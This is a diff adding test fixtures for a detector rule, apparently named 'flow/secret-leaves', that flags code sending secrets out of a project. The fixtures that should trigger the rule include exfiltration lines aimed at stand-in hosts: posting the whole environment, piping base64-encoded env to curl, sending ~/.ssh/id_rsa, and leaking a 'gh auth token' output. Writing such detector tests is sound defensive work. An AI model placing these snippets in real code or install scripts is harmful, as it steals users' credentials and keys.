@@ -175,6 +175,41 @@ const rows: readonly Row[] = [
     fires: { configure: 'f=`grep -rl "^mark" .`\ncp $f x\n', "b.bin": Buffer.concat([noise("b", 99), Buffer.from("\nmark\n\0")]) },
     silent: { configure: 'f=`grep -rl "^mark" .`\ncp $f x\n', "b.c": "mark\n", "c.c": "mark\n" },
   },
+  ...[
+    // All of the environment, and one setting of it (every client).
+    [
+      'fetch("https://h.example.org", { method: "POST", body: JSON.stringify(process.env) })\n',
+      'fetch("https://h.example.org", { headers: { a: process.env.A_TOKEN } })\n',
+    ],
+    // What a reader of settings makes of the environment is not all of it.
+    [
+      'fetch("//h", { body: btoa(JSON.stringify({ ...process.env })) })\n',
+      'const c = require("c").load(process.env)\nfetch(c.url, { body: c.token })\n',
+    ],
+    [
+      'require("fs").readFile(require("os").homedir() + "/.ssh/id_rsa", (e, k) => fetch("//h", { body: k }))\n',
+      'require("fs").readFile("a.txt", (e, k) => fetch("//h", { body: k }))\n',
+    ],
+    // A token goes back to whoever gave it.
+    [
+      'const t = require("child_process").execSync("gh auth token")\nfetch("https://h.example.org/", { body: t })\n',
+      'const t = require("child_process").execSync("gh auth token")\nfetch("https://api.github.com/user", { headers: { a: t } })\n',
+    ],
+    [
+      'const { A_TOKEN, B_TOKEN, C_SECRET, D_TOKEN, E_PASSWORD } = process.env\nfetch("//h", { body: [A_TOKEN, B_TOKEN, C_SECRET, D_TOKEN, E_PASSWORD].join() })\n',
+      'const { A_TOKEN, A_SECRET, A_PASSWORD, A_AUTH, A_API_KEY } = process.env\nfetch("//h", { body: [A_TOKEN, A_SECRET, A_PASSWORD, A_AUTH, A_API_KEY].join() })\n',
+    ],
+  ].map(([fires = "", silent = ""]): Row => ({ rule: "flow/secret-leaves", fires: { "index.js": fires }, silent: { "index.js": silent } })),
+  {
+    rule: "flow/secret-leaves",
+    fires: { "setup.py": "import os, requests\nrequests.post('//h', json=dict(os.environ))\n" },
+    silent: { "setup.py": "import os, requests\nrequests.post('//h', json=os.environ['A_TOKEN'])\n" },
+  },
+  {
+    rule: "flow/secret-leaves",
+    fires: { configure: "#!/bin/sh\nenv | base64 | curl -d @- http://h.example.org\n" },
+    silent: { configure: "#!/bin/sh\nenv | base64\ncurl -d @a http://h.example.org\n" },
+  },
   {
     rule: "unexplained/changed-code",
     commit: { "a.c": main },
